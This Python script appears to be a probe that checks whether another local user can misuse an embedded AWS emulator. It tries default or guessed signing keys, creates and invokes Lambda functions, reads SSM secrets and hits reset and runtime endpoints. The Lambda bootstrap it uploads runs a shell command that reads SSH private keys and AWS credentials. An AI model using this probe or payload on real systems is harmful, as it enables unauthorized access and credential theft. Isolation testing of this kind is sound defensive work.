"""What another user of the machine tries: run with that user's id, it prints what succeeded as JSON.

Arguments: the URL of an embedded AWS, the id of its access key (which presigned URLs show), and the ports on which its
process listens. Standard library only.
"""

import hashlib
import hmac
import http.client
import io
import itertools
import json
import os
import sys
import time
import zipfile
from urllib.parse import urlsplit

ENDPOINT, KEY_ID, *PORTS = sys.argv[1:]
ADDRESS = urlsplit(ENDPOINT)
KEYS = [(KEY_ID, "test"), (KEY_ID, ""), ("test", "test"), ("000000000000", "test"), ("", ""), None]


def signature(key, secret, service, method, path, body, headers):
    """The value of Authorization (https://docs.aws.amazon.com/IAM/latest/UserGuide/create-signed-request.html)."""
    date = headers["X-Amz-Date"]
    scope = f"{date[:8]}/us-east-1/{service}/aws4_request"
    canonical = "\n".join(
        [method, path, "", f"host:{ADDRESS.netloc}", f"x-amz-date:{date}", "", "host;x-amz-date", hashed(body)]
    )
    digest = f"AWS4{secret}".encode()
    for part in (date[:8], "us-east-1", service, "aws4_request"):
        digest = hmac.new(digest, part.encode(), hashlib.sha256).digest()
    text = "\n".join(["AWS4-HMAC-SHA256", date, scope, hashed(canonical.encode())])
    signed = hmac.new(digest, text.encode(), hashlib.sha256).hexdigest()
    return f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders=host;x-amz-date, Signature={signed}"


def hashed(content):
    return hashlib.sha256(content).hexdigest()


def status(port, method, path, body, headers):
    connection = http.client.HTTPConnection(str(ADDRESS.hostname), port, timeout=20)
    try:
        connection.request(method, path, body, headers)
        return connection.getresponse().status
    finally:
        connection.close()


def code_that_reads_files():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        entry = zipfile.ZipInfo("bootstrap")
        entry.external_attr = 0o755 << 16
        archive.writestr(entry, "#!/bin/sh\ncat $HOME/.ssh/id_* $HOME/.aws/credentials\n")
    return packed.getvalue().hex()


FUNCTION = {"FunctionName": "f", "Code": {"ZipFile": code_that_reads_files()}}
COGNITO = "AWSCognitoIdentityProviderService.ListUserPools"
CALLS = [
    ("lambda", "GET", "/2015-03-31/functions", {}, None),
    (
        "lambda",
        "POST",
        "/2015-03-31/functions",
        {},
        FUNCTION,
    ),
    ("lambda", "POST", "/2015-03-31/functions/probe-echo/invocations", {}, {"do": "credentials"}),
    ("s3", "GET", "/", {}, None),
    ("s3", "PUT", "/a-bucket-of-a-stranger", {}, None),
    ("dynamodb", "POST", "/", {"X-Amz-Target": "DynamoDB_20120810.ListTables"}, {}),
    ("ssm", "POST", "/", {"X-Amz-Target": "AmazonSSM.GetParameter"}, {"Name": "/probe/key", "WithDecryption": True}),
    (
        "cognito-idp",
        "POST",
        "/",
        {"X-Amz-Target": COGNITO},
        {"MaxResults": 9},
    ),
    ("execute-api", "POST", "/_ministack/reset", {}, None),
    ("execute-api", "GET", "/v2/_catalog", {}, None),
]

succeeded, tried = [], 0
for (service, method, path, more, content), key in itertools.product(CALLS, KEYS):
    body = json.dumps(content).encode() if content is not None else b""
    headers = {"X-Amz-Date": time.strftime("%Y%m%dT%H%M%SZ", time.gmtime()), **more}
    if key is not None:
        headers["Authorization"] = signature(key[0], key[1], service, method, path, body, headers)
    tried += 1
    if status(ADDRESS.port, method, path, body, headers) < 400:
        succeeded.append([service, method, path, key])
for port in PORTS:
    for method, path in (("GET", "invocation/next"), ("POST", "init/error")):
        tried += 1
        if status(int(port), method, f"/2018-06-01/runtime/{path}", b"{}", {}) < 400:
            succeeded.append([port, method, path])
print(json.dumps({"user": os.getuid(), "tried": tried, "succeeded": succeeded}))
